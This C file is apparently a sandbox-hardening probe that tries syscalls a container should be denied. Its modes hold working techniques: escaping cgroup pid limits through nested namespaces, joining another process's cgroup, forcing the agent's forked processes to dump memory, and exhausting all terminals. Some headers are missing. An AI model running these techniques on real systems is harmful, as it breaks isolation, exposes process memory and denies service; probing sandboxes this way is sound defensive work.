/*
 * Requests from the kernel what containers must not get, and prints the errors. 0 is success. "lift" attacks
 * the process's control group instead, and "lift SECONDS" also keeps its mount of that. "leave PID" moves to
 * the control group of another process. "dump SECONDS" attacks the processes that the agent starts in the
 * container. "terminals" takes all terminals of the container.
 */
#include <sys/socket.h>
#include <linux/resource.h>
#include <linux/sched.h>
#include <linux/time_types.h>
#include <linux/vm_sockets.h>
#include <stdbool.h>

static void try(const char *name, long result)
{
	printf("%s %d\n", name, result < 0 ? errno : 0);
}

static int write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY), result;

	if (fd < 0)
		return -1;
	result = write(fd, text, strlen(text));
	if (result >= 0)
		close(fd);
	return result;
}

/*
 * Tries to lift the limit of the container's control group, as root of a user namespace. The kernel protects
 * only the root of the process' own cgroup namespace, so the process first makes itself one further down.
 */
static int lift_limit(void)
{
	if (syscall(__NR_unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		return 1;
	write_text("/proc/self/uid_map", "0 0 1");
	try("mount(cgroup2)", mount("cgroup2", "/mnt", "cgroup2", 0, ""));
	try("mkdir(group)", mkdir("/mnt/group", 0755));
	try("enter group", write_text("/mnt/group/cgroup.procs", "0"));
	try("unshare(CLONE_NEWCGROUP)", syscall(__NR_unshare, CLONE_NEWCGROUP));
	try("write(pids.max)", write_text("/mnt/pids.max", "max"));
	try("write(cgroup.max.depth)", write_text("/mnt/cgroup.max.depth", "max"));
	return 0;
}

/*
 * Tries to move to the control group of a process that has made a mount of it by "lift", by two ways. The
 * caller is root of the container.
 */
static int leave(const char *pid)
{
	char path[64] = "/proc/";
	struct clone_args into = { .flags = CLONE_INTO_CGROUP };

	strlcat(path, pid, sizeof(path));
	strlcat(path, "/root/mnt/", sizeof(path));
	into.cgroup = open(path, O_RDONLY | O_DIRECTORY);
	if ((int)into.cgroup < 0)
		return 1;
	try("clone3(group)", syscall(__NR_clone3, &into, sizeof(into)));
	strlcat(path, "cgroup.procs", sizeof(path));
	try("write(cgroup.procs)", write_text(path, "0"));
	return 0;
}

static long seconds(void)
{
	struct __kernel_timespec now;

	syscall(__NR_clock_gettime, 1, &now);
	return now.tv_sec;
}

/* Whether the process has not executed its program yet, so that its memory is a copy of the agent's. */
static bool is_of_agent(pid_t pid)
{
	char path[32] = "/proc/", name[6] = "";
	int fd;

	itoa_r(pid, path + strlen(path));
	strlcat(path, "/comm", sizeof(path));
	fd = open(path, O_RDONLY);
	read(fd, name, sizeof(name) - 1);
	close(fd);
	return strcmp(name, "init\n") == 0;
}

/* Makes processes dump their memory, with the rights of a user over his own processes. */
static unsigned dump(long end)
{
	static const struct rlimit unlimited = { .rlim_cur = RLIM_INFINITY, .rlim_max = RLIM_INFINITY };
	unsigned killed = 0;
	pid_t next = getpid() + 1;

	while (seconds() < end) {
		if (kill(next, 0) < 0 && kill(next + 1, 0) < 0)
			continue;
		while (is_of_agent(next)) {
			syscall(__NR_prlimit64, next, RLIMIT_CORE, &unlimited, NULL);
			killed += kill(next, SIGSEGV) == 0;
		}
		next++;
	}
	return killed;
}

/* Takes all terminals, and keeps them. */
static void __attribute__((noreturn)) take_terminals(void)
{
	static const struct rlimit files = { .rlim_cur = 1 << 16, .rlim_max = 1 << 16 };

	setrlimit(RLIMIT_NOFILE, &files);
	while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
		;
	write(STDOUT_FILENO, "taken\n", 6);
	for (;;)
		sleep(1000);
}

int main(int argc, char **argv)
{
	char log[64];

	if (argc >= 2 && strcmp(argv[1], "lift") == 0) {
		int status = lift_limit();

		if (argc == 3)
			sleep(atoi(argv[2]));
		return status;
	}
	if (argc == 3 && strcmp(argv[1], "leave") == 0)
		return leave(argv[2]);
	if (argc == 2 && strcmp(argv[1], "terminals") == 0)
		take_terminals();
	if (argc == 3 && strcmp(argv[1], "dump") == 0) {
		printf("%u signals\n", dump(seconds() + atoi(argv[2])));
		return 0;
	}
	printf("effective user %d\n", (int)syscall(__NR_geteuid));
	try("socket(AF_VSOCK)", socket(AF_VSOCK, SOCK_STREAM, 0));
	/* The kernel uses the lower half only. */
	try("socket(2^32 | AF_VSOCK)", syscall(__NR_socket, 1ul << 32 | AF_VSOCK, SOCK_STREAM, 0));
	try("socket(AF_INET)", socket(AF_INET, SOCK_STREAM, 0));
	try("io_uring_setup", syscall(__NR_io_uring_setup, 1, log));
	try("syslog", syscall(__NR_syslog, 3, log, sizeof(log)));
	try("mount", mount("tmpfs", "/tmp", "tmpfs", 0, ""));
	return 0;
}
